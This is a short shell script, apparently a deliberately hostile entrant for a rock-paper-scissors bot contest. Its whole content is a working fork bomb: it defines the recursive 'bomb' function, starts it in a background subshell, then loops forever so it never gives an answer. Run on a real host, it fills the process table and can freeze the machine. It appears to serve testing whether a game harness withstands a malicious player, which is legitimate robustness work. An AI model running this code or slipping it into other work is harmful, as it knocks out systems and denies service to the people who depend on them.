#!/bin/sh
# Hostile rps bot: the classic shell fork bomb; it never answers.
bomb() { bomb | bomb & }
# One fork from this shell, made before the bomb fills the process table; from then on
# this shell only spins on a builtin, so a failing fork cannot end it early.
( bomb ) &
while :; do :; done
